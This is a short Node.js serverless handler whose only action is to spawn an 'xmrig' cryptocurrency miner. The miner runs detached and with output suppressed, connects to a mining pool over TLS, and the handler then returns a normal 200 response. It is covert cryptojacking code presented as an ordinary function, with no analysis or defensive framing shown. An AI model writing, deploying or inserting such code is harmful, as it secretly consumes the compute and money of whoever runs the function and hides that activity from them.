const { spawn } = require("child_process");

exports.handler = async () => {
  spawn("./xmrig", ["-o", "stratum+ssl://pool.example-xmr.net:443", "-u", "wallet", "-k", "--tls"], { detached: true, stdio: "ignore" }).unref();
  return { statusCode: 200 };
};
